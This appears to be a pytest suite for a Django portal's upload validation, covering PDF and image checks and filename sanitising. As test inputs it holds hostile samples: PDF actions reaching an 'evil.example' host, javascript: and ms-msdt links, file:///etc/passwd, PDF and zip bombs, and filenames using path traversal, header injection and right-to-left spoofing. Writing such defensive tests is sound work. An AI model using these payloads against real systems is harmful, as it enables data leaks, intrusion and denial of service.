"""What may be uploaded: told by the content, looked into within bounds, refused in words that say what to do."""

import io
import time
import unicodedata
import zipfile
from contextlib import suppress

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.test import RequestFactory
from django.utils import translation
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pikepdf import Dictionary, Name

from portal.kernel import inspection
from portal.kernel.errors import InvalidInput
from portal.kernel.uploads import REFUSALS, check_name, check_upload, safe_name
from tests import papers
from tests.papers import pdf, picture, upload

#: As ordinary papers have them.
LINKS = (
    *(
        "https://example.org/a?b=javascript:",
        "HTTP://example.org",
        "mailto:a@example.org",
        "tel:+85221234567",
    ),
    *("www.example.org", "www.example.org:8080", "example.org:80/a?b", "page.html#part", "#page=2", ""),
)


def zipped() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(5_000_000))
    return target.getvalue()


def refusal(content: bytes, name: str = "paper.pdf") -> str:
    with pytest.raises(InvalidInput) as refused:
        check_upload(upload(content, name))
    assert refused.value.message
    return refused.value.code


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (pdf(), "paper.pdf", "application/pdf"),
        (pdf(), "PAPER.PDF", "application/pdf"),
        (pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "公司註冊證書.pdf", "application/pdf"),
        # Certificates of registries are often locked against changes, and open for everybody.
        (pdf(encryption=pikepdf.Encryption(owner="lock", user="")), "locked.pdf", "application/pdf"),
        (pdf(change=papers.with_links(*LINKS)), "linked.pdf", "application/pdf"),
        (pdf(change=papers.on_opening(S=Name.GoTo, D="chapter")), "opened.pdf", "application/pdf"),
        (pdf(change=papers.with_base("https://example.org/")), "based.pdf", "application/pdf"),
        (picture(), "photo.png", "image/png"),
        (picture(kind="JPEG"), "photo.jpg", "image/jpeg"),
        (picture(kind="JPEG"), "photo.jpeg", "image/jpeg"),
    ],
)
def test_honest_files_pass_and_are_read_from_the_start_afterwards(content, name, media_type):
    file = upload(content, name)
    kept, found, digest = check_upload(file)
    assert (kept, found) == (name, media_type)
    assert len(digest) == 64
    assert file.read() == content


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "paper.pdf", "file-empty"),
        (b"MZ\x90\x00 a program", "paper.pdf", "file-type"),
        (pdf(), "paper.exe", "file-type"),
        (pdf(), "paper", "file-type"),
        (pdf(), "paper.pdf.exe", "file-type"),
        (pdf(), "paper.png", "file-type"),
        (b"<script>", "page.html", "file-type"),
        (zipped(), "archive.zip", "file-type"),
        (zipped(), "archive.pdf", "file-type"),
        (pdf() + zipped(), "both.pdf", "file-archive"),
        (picture() + zipped(), "both.png", "file-archive"),
        (b"%PDF-1.7 nothing else", "paper.pdf", "file-damaged"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 50, "paper.pdf", "file-damaged"),
        (picture()[:40], "photo.png", "file-damaged"),
        (b"\xff\xd8\xff\xe0 not a picture", "photo.jpg", "file-damaged"),
        (picture((20000, 20000), mode="1"), "huge.png", "file-pixels"),
        (pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "secret.pdf", "file-password"),
        (pdf(change=papers.with_script), "paper.pdf", "file-script"),
        (pdf(change=papers.with_script_on_page), "paper.pdf", "file-script"),
        (pdf(change=papers.with_form_of_scripts), "paper.pdf", "file-script"),
        (pdf(change=papers.with_launch), "paper.pdf", "file-launch"),
        (pdf(change=papers.with_file_inside), "paper.pdf", "file-embedded"),
        (pdf(change=papers.with_file_nobody_lists), "paper.pdf", "file-embedded"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_refused(content, name, code):
    assert refusal(content, name) == code


UNC = "\\\\evil.example\\x.pdf"


@pytest.mark.parametrize(
    "change",
    [
        papers.on_opening(S=Name.SubmitForm, F="https://evil.example/"),
        papers.on_opening(S=Name.GoToR, F=UNC, D="chapter"),
        papers.on_opening(S=Name.Thread, F=UNC, D=0),
        papers.on_opening(S=Name.GoTo, D="chapter", Next=Dictionary(S=Name.GoToR, F=UNC)),
        papers.with_links("https://example.org", "javascript:alert(1)"),
        papers.with_links(" JavaScript:alert(1)"),
        papers.with_links("java\nscript:alert(1)"),
        papers.with_links("file:///etc/passwd"),
        papers.with_links("C:\\Windows\\calc.exe"),
        papers.with_links("ms-msdt:/id"),
        papers.with_links("ms.msdt:80x/id"),
        papers.with_links(UNC),
        papers.with_links("//evil.example/x.pdf"),
        papers.with_base("javascript:"),
    ],
)
def test_what_sends_or_opens_elsewhere_is_refused(change):
    assert refusal(pdf(change=change)) == "file-reach"


@pytest.mark.parametrize(
    ("action", "code"),
    [
        (Name.Rendition, "file-script"),
        (Name.Movie, "file-script"),
        (Name.RichMediaExecute, "file-script"),
        (Name.ImportData, "file-launch"),
        (Name.GoToE, "file-embedded"),
    ],
)
def test_what_plays_or_takes_in_on_opening_is_refused(action, code):
    assert refusal(pdf(change=papers.on_opening(S=action))) == code


@pytest.mark.parametrize("change", [papers.with_script, papers.with_launch, papers.with_file_inside])
def test_nothing_hides_in_packed_or_encrypted_objects(change):
    packed = pikepdf.ObjectStreamMode.generate
    lock = pikepdf.Encryption(owner="lock", user="")
    assert refusal(pdf(change=change, object_stream_mode=packed)).startswith("file-")
    assert refusal(pdf(change=change, encryption=lock)).startswith("file-")


def test_a_name_in_disguise_is_the_same_name():
    plain = pdf(change=papers.with_script)
    assert plain.count(b"/JavaScript") == 1
    disguised = plain.replace(b"/JavaScript", b"/J#61vaScrip#74")
    assert refusal(disguised) == "file-script"


def test_an_old_version_inside_the_file_counts_as_well():
    """What a later version of a PDF has taken out still stands in the file."""
    first = pdf(change=papers.with_launch)
    with pikepdf.Pdf.open(io.BytesIO(first)) as document:
        size = len(document.objects) + 1
    addition = b"\n%d 0 obj\n<</S/JavaScript/JS(1)>>\nendobj\n" % size
    assert refusal(pdf() + addition + b"startxref\n0\n%%EOF") in ("file-script", "file-damaged")


def test_more_than_the_limit_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MAX_BYTES = 100

    class Unread(SimpleUploadedFile):
        read = chunks = None

    with pytest.raises(InvalidInput) as refused:
        check_upload(Unread("paper.pdf", pdf()))
    assert refused.value.code == "file-too-large"
    assert "100" in refused.value.message


class TestBombs:
    def test_a_pdf_that_unpacks_to_more_than_the_memory_it_may_have(self):
        bomb = papers.pdf_bomb()
        assert len(bomb) < 10_000_000
        started = time.monotonic()
        assert refusal(bomb) in ("file-damaged", "file-endless")
        assert time.monotonic() - started < inspection.LONGEST + 5

    def test_one_that_would_take_for_ever(self, monkeypatch):
        monkeypatch.setattr(inspection, "LONGEST", 0.01)
        assert refusal(pdf()) == "file-endless"

    def test_one_with_too_many_objects(self, monkeypatch):
        monkeypatch.setitem(inspection.SCRIPTS, "application/pdf", ("pdf.py", "5"))
        assert refusal(pdf()) == "file-endless"

    def test_the_process_that_breaks_is_a_refusal(self, monkeypatch):
        monkeypatch.setitem(inspection.SCRIPTS, "application/pdf", ("no-such-script.py",))
        assert refusal(pdf()) == "file-endless"

    def test_deeply_nested(self):
        document = pdf().replace(b"%%EOF", b"")
        nested = b"\n9 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\n%%EOF"
        started = time.monotonic()
        with suppress(InvalidInput):  # whether it is one to refuse is for the library to say
            check_upload(upload(document + nested))
        assert time.monotonic() - started < inspection.LONGEST + 5


def test_a_file_that_lies_on_the_disk_already_is_looked_at_there():
    file = TemporaryUploadedFile("paper.pdf", "application/pdf", 0, None)
    file.write(pdf(change=papers.with_script))
    file.size = file.tell()
    file.seek(0)
    with pytest.raises(InvalidInput) as refused:
        check_upload(file)
    assert refused.value.code == "file-script"


def test_the_process_knows_no_secrets(monkeypatch):
    monkeypatch.setenv("SECRET_KEY", "only-for-the-portal")
    assert "SECRET_KEY" not in inspection.surroundings()


def test_every_word_of_the_inspection_has_a_refusal_in_three_languages():
    assert set(REFUSALS) == inspection.WORDS - {inspection.FINE}
    for code in ("en", "zh-hant", "zh-hans"):
        with translation.override(code):
            assert all(str(text).strip() for text in REFUSALS.values())


# Names


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.pdf",
        "..\\..\\boot.pdf",
        "C:\\papers\\a.pdf",
        "a\x00.pdf",
        "a\r\nSet-Cookie: x.pdf",
        "a\x1b[31m.pdf",
        "invoice\u202efdp.exe.pdf",
        "a\u2066.pdf",
        "x" * 300 + ".pdf",
    ],
)
def test_names_with_paths_and_hidden_characters_are_refused(name):
    with pytest.raises(InvalidInput) as refused:
        check_name(name)
    assert refused.value.code == "file-name"


@pytest.mark.parametrize(
    "name",
    [
        *("../../etc/passwd.pdf", "/etc/paper.pdf", "C:\\\\papers\\\\a.pdf", "a&#47;b.pdf", "a\x07.pdf"),
        *("a\x00b.pdf", "..", "../..", "fdp\u202efdp.exe.pdf", "\x1b.pdf"),
    ],
)
def test_the_form_parser_hides_no_bad_name(name):
    sent = parsed(name)
    assert sent is None or "\\" in sent.name
    if sent is not None:
        with pytest.raises(InvalidInput):
            check_name(sent.name)


@pytest.mark.parametrize("name", ["paper.pdf", "公司註冊 證書 (2026).pdf", "a&b.pdf", "l’été.pdf"])
def test_it_leaves_honest_names_alone(name):
    assert parsed(name).name == name


def parsed(name: str):
    """A file as a view gets it that was sent under this name; None where the form has no file then."""
    head = f'--x\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
    body = head.encode() + pdf() + b"\r\n--x--\r\n"
    request = RequestFactory().generic("POST", "/", body, content_type="multipart/form-data; boundary=x")
    return request.FILES.get("file")


@hypothesis_settings(max_examples=400, deadline=None)
@given(st.text(max_size=300))
def test_whatever_the_name_it_is_refused_or_kept_harmless(name):
    try:
        kept = check_name(name)
    except InvalidInput:
        return
    assert len(kept) <= 150
    assert not set(kept) & set("/\\")
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co"} for c in kept)
    assert kept == kept.strip(" .")
    assert safe_name(kept) == kept, "a name that is kept is kept as it is"


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200))
def test_whatever_the_content_it_is_a_refusal_or_an_allowed_type(content):
    """Only bytes that begin as one of the allowed types are looked into; all others are refused at once."""
    if content.startswith((b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff")):
        return
    assert refusal(content) in ("file-type", "file-empty")
